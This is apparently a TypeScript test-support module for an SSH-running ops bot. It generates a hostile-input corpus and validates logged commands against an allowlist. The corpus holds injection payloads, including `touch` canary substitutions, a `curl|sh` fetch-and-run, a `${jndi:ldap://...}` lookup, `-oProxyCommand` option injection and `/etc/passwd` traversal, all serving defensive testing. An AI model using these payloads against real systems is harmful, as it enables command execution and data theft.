/**
 * The injection corpus (issue 7): hostile inputs by category, deterministic, reused at every entry
 * point (Slack mention and slash command, each webhook, config, CLI). Most are a real inventory
 * target (`lab-1:2133`) with something hostile added, so that only the hostile part makes them
 * wrong; every one that could run a command tries to create `canary`, which must never exist.
 *
 * Also here: what may reach the remote shell. `shellWords` reads a logged command line the way a
 * POSIX shell would — but only the safe subset the SSH executor produces (bare safe words,
 * single-quoted strings, `\'`); anything else is refused — and `commandProblem` checks the argv
 * against the runbooks' templates.
 */
import { KERNEL_FILES } from '../../src/steps/kernel-counters.js';

export const HOSTILE_CATEGORIES = [
  'shell-meta',
  'quotes',
  'control',
  'substitution',
  'unicode',
  'overlong',
  'traversal',
  'format',
  'slack-markup',
  'json-yaml',
  'option',
  'number',
  'address',
] as const;
export type HostileCategory = (typeof HOSTILE_CATEGORIES)[number];

export interface HostileInput {
  /** Stable id: `<category>-<n>`. */
  id: string;
  category: HostileCategory;
  /** The text sent where a target (`HOST:PORT`), a label value or a name is expected. */
  value: string;
}

export interface CorpusOptions {
  /** An inventory host name: inputs are this host with something hostile added. */
  host: string;
  /** The service port on it. */
  port: number;
  /** The file the inputs try to create (`touch CANARY`); it must never exist. */
  canary: string;
}

/** Characters a POSIX shell reads specially. */
export const SHELL_METACHARACTERS = [';', '|', '&', '$', '>', '<', '`', '(', ')', '{', '}', '*', '?', '!', '#', '~', '\\', "'", '"', '[', ']', '^'] as const;

/**
 * The corpus: at least 200 distinct strings over HOSTILE_CATEGORIES, the same list for the same
 * options. Includes a 10 KB and a 1 MB string (category `overlong`); callers with smaller limits
 * (a Slack message, an argv element) filter by `value.length`.
 */
export function hostileCorpus(o: CorpusOptions): HostileInput[] {
  const { host, port, canary } = o;
  const t = `${host}:${port}`;
  const touch = `touch ${canary}`;
  const out: HostileInput[] = [];
  const seen = new Set<string>();
  const add = (category: HostileCategory, ...values: string[]) => {
    for (const value of values) {
      if (seen.has(value)) continue;
      seen.add(value);
      out.push({ id: `${category}-${out.filter((x) => x.category === category).length + 1}`, category, value });
    }
  };

  // Shell metacharacters: in the host, after the host, in the port, after the target, alone.
  for (const m of [';', '|', '&', '&&', '||', '>', '>>', '<', '2>&1', '\\', '*', '?', '!', '#', '~', '^', '[', ']', '{', '}', '(', ')']) {
    add('shell-meta', `${host}${m}${touch}:${port}`, `${t}${m}${touch}`);
  }
  add(
    'shell-meta',
    `${host};reboot:${port}`,
    `${host}:${port};reboot`,
    `${host}:${port}|sh`,
    `${host}:${port}&`,
    `${host}:${port}>/etc/passwd`,
    `${host}:${port}<${canary}`,
    `${host}:{${port},22}`,
    `${host}:${port}*`,
    `*:${port}`,
    `${host}:$PORT`,
    `$HOST:${port}`,
    `${host}:${port}%0a${touch}`,
    `;${touch};:${port}`,
  );

  // Quotes: breaking out of single and double quotes, the '\'' idiom, unbalanced quotes.
  add(
    'quotes',
    `${host}':${port}`,
    `${host}":${port}`,
    `'${t}'`,
    `"${t}"`,
    `${host}'; ${touch}; ':${port}`,
    `${host}"; ${touch}; ":${port}`,
    `${host}'\\''; ${touch}; '\\'':${port}`,
    `${t}' '${touch}`,
    `${t}"$(${touch})"`,
    `${host}\\'${touch}:${port}`,
    `'':${port}`,
    `${host}:'${port}'`,
    `${host}:"${port}"`,
    `${t}\`'"`,
  );

  // Control characters: newlines (LF, CR, CRLF, NEL, LS, PS), NUL, tabs, escapes, DEL.
  for (const [name, c] of [
    ['lf', '\n'],
    ['cr', '\r'],
    ['crlf', '\r\n'],
    ['nul', '\0'],
    ['tab', '\t'],
    ['vt', '\v'],
    ['ff', '\f'],
    ['esc', '\x1b'],
    ['del', '\x7f'],
    ['bs', '\b'],
    ['bel', '\x07'],
    ['nel', '\u0085'],
    ['ls', '\u2028'],
    ['ps', '\u2029'],
  ] as const) {
    void name;
    add('control', `${host}${c}${touch}:${port}`, `${t}${c}${touch}`);
  }
  add('control', `${host}\x1b[2J\x1b[H:${port}`, `${host}\x1b]0;pwned\x07:${port}`, `${host}:${port}\0`, `\0${t}`, `${host}:\n${port}`);

  // Command, arithmetic, process and parameter substitution.
  add(
    'substitution',
    `$(${touch}):${port}`,
    `${host}$(${touch}):${port}`,
    `${t}$(${touch})`,
    `\`${touch}\`:${port}`,
    `${host}\`${touch}\`:${port}`,
    `${t}\`${touch}\``,
    `${host}:$((${port}))`,
    `${host}:$[${port}]`,
    `${host}\${IFS}${touch}:${port}`,
    `${host}:\${PORT:-${port}}`,
    `<(${touch}):${port}`,
    `>(${touch}):${port}`,
    `${host}$'\\x3b'${touch}:${port}`,
    `\${HOME}:${port}`,
    `${host}:${port}$(sleep 30)`,
    `$(curl -s http://127.0.0.1:1/x|sh):${port}`,
    `${host}$(printf '\\x3b')${touch}:${port}`,
  );

  // Unicode look-alikes and invisible characters.
  add(
    'unicode',
    `${host}\uff1a${port}`, // fullwidth colon
    `${host}\uff1b${touch}:${port}`, // fullwidth semicolon
    `${host}\uff5c${touch}:${port}`, // fullwidth vertical line
    `${host.replace(/a/g, '\u0430').replace(/l/g, '\u04cf')}:${port}`, // Cyrillic а, ӏ
    `${host.replace(/a/g, '\u03b1')}:${port}`, // Greek alpha
    `${host.replace(/-/g, '\u2010')}:${port}`, // hyphen
    `${host.replace(/-/g, '\u2013')}:${port}`, // en dash
    `${host.replace(/-/g, '\u2212')}:${port}`, // minus sign
    `${host}\u200b:${port}`, // zero-width space
    `${host}\u200c:${port}`, // zero-width non-joiner
    `${host}\u200d:${port}`, // zero-width joiner
    `${host}\ufeff:${port}`, // byte order mark
    `${host}\u00ad:${port}`, // soft hyphen
    `${host}\u202e${touch}:${port}`, // right-to-left override
    `\u202e${port}:${host}`,
    `${host}\u2066:${port}\u2069`, // isolates
    `${host}:${[...String(port)].map((d) => String.fromCharCode(0xff10 + Number(d))).join('')}`, // fullwidth digits
    `${host}:${[...String(port)].map((d) => String.fromCharCode(0x0660 + Number(d))).join('')}`, // Arabic-Indic digits
    `${host}:${[...String(port)].map((d) => String.fromCharCode(0x2080 + Number(d))).join('')}`, // subscript digits
    `${host}\u3002local:${port}`, // ideographic full stop
    `${[...host].map((c) => (/[a-z]/.test(c) ? String.fromCharCode(c.charCodeAt(0) - 0x61 + 0xff41) : c)).join('')}:${port}`, // fullwidth letters
    `${host}\u00a0:${port}`, // no-break space
    `${host}\u3000${touch}:${port}`, // ideographic space
    `${host}\ua789${port}`, // modifier letter colon
    `${host}\u0301:${port}`, // combining acute accent
    `${host}\ud800:${port}`, // lone surrogate
    `${host}\u{1f4a5}:${port}`, // emoji
    `xn--${host}:${port}`,
    `${host}\u2044${port}`, // fraction slash
    `${host}\u0338:${port}`, // combining long solidus overlay
  );

  // Overlong: 10 KB and 1 MB strings, a host of 300 characters, 1000 port digits, deep labels.
  add(
    'overlong',
    `${'a'.repeat(10 * 1024)}:${port}`,
    `${host}:${port}${';'.repeat(10 * 1024)}`,
    `${host}:${port}`.padEnd(1024 * 1024, `;${touch}`),
    `${'h'.repeat(300)}:${port}`,
    `${'h'.repeat(64)}:${port}`,
    `${host}:${'9'.repeat(1000)}`,
    `${host}:${'0'.repeat(50)}${port}`,
    `${'a.'.repeat(200)}${host}:${port}`,
    `${host}${':'.repeat(500)}${port}`,
    `${t} ${'x '.repeat(2000)}`,
  );

  // Path traversal and file names.
  add(
    'traversal',
    `../../etc/passwd:${port}`,
    `${host}/../../etc/passwd:${port}`,
    `/etc/passwd:${port}`,
    `${t}/../../etc/shadow`,
    `..%2f..%2fetc%2fpasswd:${port}`,
    `....//....//etc/passwd:${port}`,
    `~root:${port}`,
    `file:///etc/passwd:${port}`,
    `\\\\server\\share:${port}`,
    `${host}\\..\\..\\windows:${port}`,
    `/proc/self/environ:${port}`,
    `..:${port}`,
    `.:${port}`,
  );

  // Format strings and template syntaxes (including the bot's own placeholders).
  add(
    'format',
    `%s%s%s%s%n:${port}`,
    `${host}%x%x%x:${port}`,
    `${host}:%d`,
    `\${jndi:ldap://127.0.0.1:1/a}:${port}`,
    `{{7*7}}:${port}`,
    `#{7*7}:${port}`,
    `%(host)s:${port}`,
    `{host}:${port}`,
    `${host}:{port}`,
    `{pid}:${port}`,
    `${host}{service}:${port}`,
    `${host}%0d%0a:${port}`,
    `<%= 7*7 %>:${port}`,
    `\${7*7}:${port}`,
  );

  // Slack markup: broadcasts, user and channel mentions, links, formatting, escaped entities.
  add(
    'slack-markup',
    '<!channel>',
    '<!here>',
    '<!everyone>',
    `<!channel> ${t}`,
    `${host}<@U0ADMIN1>:${port}`,
    `<#C0GENERAL|general>:${port}`,
    `<!subteam^S0ONCALL|@oncall>:${port}`,
    `<http://127.0.0.1:1/x|${host};${touch}>:${port}`,
    `<mailto:root@${host}|root>:${port}`,
    `&lt;!channel&gt;:${port}`,
    `${host}&amp;&amp;${touch}:${port}`,
    `*${host}*:${port}`,
    `\`\`\`${t}\`\`\``,
    `${host}<${port}>`,
    `<${host}:${port}`,
  );

  // JSON and YAML breakers, prototype keys.
  add(
    'json-yaml',
    `${host}"}:${port}`,
    `{"__proto__":{"admin":true}}`,
    '__proto__',
    `__proto__:${port}`,
    `constructor:${port}`,
    `prototype:${port}`,
    `hasOwnProperty:${port}`,
    `${host}: !!js/function 'function(){}'`,
    `- ${t}`,
    `? ${t}`,
    `&anchor ${t}`,
    `*alias:${port}`,
    `---\n${t}`,
    `${host}: |\n  ${touch}`,
    `[${t}]`,
    `{${t}}`,
    `null:${port}`,
    `~:${port}`,
    `true:${port}`,
    `%YAML 1.2:${port}`,
    `\\u0000:${port}`,
  );

  // Option injection: what ssh, tail or an argument parser would read as an option.
  add(
    'option',
    `-oProxyCommand=${touch}:${port}`,
    `-oProxyCommand=${touch}`,
    `--help:${port}`,
    `-${host}:${port}`,
    `--:${port}`,
    `-n1:${port}`,
    `${host}:-${port}`,
    `-rf:${port}`,
  );

  // Numbers: ports out of range, signs, bases, exponents.
  add(
    'number',
    `${host}:0`,
    `${host}:-1`,
    `${host}:65536`,
    `${host}:99999`,
    `${host}:${port}.0`,
    `${host}:0x${port.toString(16)}`,
    `${host}:+${port}`,
    `${host}:1e3`,
    `${host}:Infinity`,
    `${host}:NaN`,
    `${host}:`,
    `${host}`,
    `:${port}`,
    `${host}:${port}:${port}`,
    `${host}: ${port}`,
  );

  // Addresses: IPv6 zone ids, other spellings of loopback, hosts outside the inventory.
  add(
    'address',
    `[::1%eth0]:${port}`,
    `[fe80::1%25eth0]:${port}`,
    `[::1;${touch}]:${port}`,
    `[127.0.0.1]:${port}`,
    `0x7f.1:${port}`,
    `2130706433:${port}`,
    `127.1:${port}`,
    `${host}.:${port}`,
    `${host.toUpperCase()}:${port}`,
    `host-99:${port}`,
    `localhost6.${host}:${port}`,
    `${host}.evil.example:${port}`,
    `[::1]`,
    `[${host}]:${port}`,
    `${host}@127.0.0.1:${port}`,
    `root@${host}:${port}`,
  );
  return out;
}

// ---------------------------------------------------------------------------------------------
// What may reach the remote shell
// ---------------------------------------------------------------------------------------------

/** Bare words the SSH executor leaves unquoted (executor.ts shellQuote). */
const SAFE_BARE = /[A-Za-z0-9_@%+=:,./-]/;

/**
 * Splits a command line into words, accepting only what `shellJoin` writes: bare words of safe
 * characters, single-quoted strings and `\'` between them, separated by single spaces. Returns
 * null for anything else (an unquoted metacharacter, a double quote, a newline outside quotes):
 * such a line would be interpreted by the shell.
 */
export function shellWords(line: string): string[] | null {
  const words: string[] = [];
  let i = 0;
  while (i < line.length) {
    let word = '';
    let any = false;
    while (i < line.length && line[i] !== ' ') {
      const c = line[i] as string;
      if (c === "'") {
        const end = line.indexOf("'", i + 1);
        if (end < 0) return null;
        word += line.slice(i + 1, end);
        i = end + 1;
      } else if (c === '\\' && line[i + 1] === "'") {
        word += "'";
        i += 2;
      } else if (SAFE_BARE.test(c)) {
        word += c;
        i += 1;
      } else {
        return null;
      }
      any = true;
    }
    if (!any) return null; // two spaces in a row, or a leading/trailing space
    words.push(word);
    if (i < line.length) {
      i += 1; // the separating space
      if (i === line.length) return null;
    }
  }
  return words;
}

/** Programs the runbook steps run (src/steps/*.ts), by argv[0]. */
export const STEP_PROGRAMS = ['ss', 'ps', 'find', 'stat', 'tail', 'date', 'cat', 'pmap', 'which', 'psql', 'jcmd', 'jstack'] as const;

/** Fixed arguments of the steps' command templates. */
const FIXED_ARGS = new Set<string>([
  '-Hltnp', '-Htane', '-Htanpe', 'sport', '=', // ss
  '-o', 'pid=,user=,etimes=,args=', '-p', // ps
  '-mindepth', '1', '-maxdepth', '-printf', '%f %l\\0', '%f\\n', // find
  '-c', '%s', '%s|%Y|%n', '--', // stat
  '-n', '+1', // tail
  '+%s', // date
  '-x', // pmap
  'jcmd', 'jstack', 'Thread.print',
  '/proc/sys/fs/file-nr',
  ...KERNEL_FILES,
]);

/** Arguments the bot validates: PIDs, counts, `:PORT`, /proc paths of a PID. */
const VALIDATED_ARGS = [/^\d{1,10}$/, /^:\d{1,5}$/, /^\/proc\/\d{1,10}\/(?:fd|limits|status|task)$/, /^\/proc\/\d{1,10}\/task\/\d{1,10}\/(?:comm|stat|wchan)$/];

export interface CommandAllowlist {
  /** Paths from the config (log files) or found by the bot on the host (the lab's open logs). */
  paths: ReadonlySet<string>;
  /** Extra argv accepted verbatim (e.g. a service's action template, rendered). */
  commands?: readonly (readonly string[])[];
}

/**
 * Why a logged command line is not one the runbooks' templates produce, or null when it is:
 * `timeout -s KILL N PROGRAM ARGS...` with PROGRAM one of the steps' and every argument a fixed
 * word, a validated number or `:PORT`, a /proc path of a PID, or a path from the allowlist.
 */
export function commandProblem(line: string, allow: CommandAllowlist): string | null {
  const argv = shellWords(line);
  if (argv === null) return 'not a safely quoted argv (a shell would interpret it)';
  const [t, s, k, n, program, ...args] = argv;
  if (t !== 'timeout' || s !== '-s' || k !== 'KILL' || !/^\d{1,5}$/.test(n ?? '')) return 'not wrapped in timeout -s KILL N';
  const rest = argv.slice(4);
  if (allow.commands?.some((c) => c.length === rest.length && c.every((a, i) => a === rest[i]))) return null;
  if (!(STEP_PROGRAMS as readonly string[]).includes(program ?? '')) return `program ${JSON.stringify(program)} is not one the steps run`;
  for (const a of args) {
    if (FIXED_ARGS.has(a) || VALIDATED_ARGS.some((re) => re.test(a)) || allow.paths.has(a)) continue;
    return `argument ${JSON.stringify(a.length > 80 ? `${a.slice(0, 80)}…` : a)} is not from a template`;
  }
  return null;
}
